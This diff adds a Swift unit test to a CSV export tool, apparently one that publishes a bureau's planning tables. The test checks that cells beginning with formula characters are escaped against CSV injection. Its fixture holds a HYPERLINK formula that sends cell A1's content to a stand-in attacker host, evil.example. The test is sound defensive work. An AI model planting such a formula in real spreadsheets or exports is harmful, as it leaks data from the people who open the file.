@@ -30,6 +30,20 @@ import Testing
         #expect(!text.replacingOccurrences(of: "\r\n", with: "").contains("\n"))
     }
 
+    /// A department's title such as `=HYPERLINK(…)` must not run as a formula when the bureau opens the
+    /// table in Excel or WPS (CSV injection): such cells start with an apostrophe, the rest stay as they are.
+    @Test func cellsThatSpreadsheetsWouldRunAreText() throws {
+        var scenario = Fixture.scenario
+        let index = try #require(scenario.requests.firstIndex { $0.id == "R02" })
+        scenario.requests[index].title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"附件\")"
+        let data = try #require(Publisher.files(plan: Fixture.plan, scenario: scenario, options: PublishOptions(generatedAt: Fixture.stamp))
+            .first { $0.relativePath == "plan.csv" }?.data)
+        let rows = try RFC4180.parse(String(decoding: data.dropFirst(3), as: UTF8.self))
+        #expect(rows[1][1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"附件\")")
+        for lead in ["+", "-", "@", "\t"] { #expect(PlanCSV.field(lead + "1") == "'" + lead + "1") }
+        #expect(PlanCSV.field("依据《安全生产法》-第二轮") == "依据《安全生产法》-第二轮")
+    }
+
     @Test func englishHeadersAndDates() throws {
         let data = try #require(Fixture.files(lang: .en)["plan.csv"])
         let rows = try RFC4180.parse(String(decoding: data.dropFirst(3), as: UTF8.self))
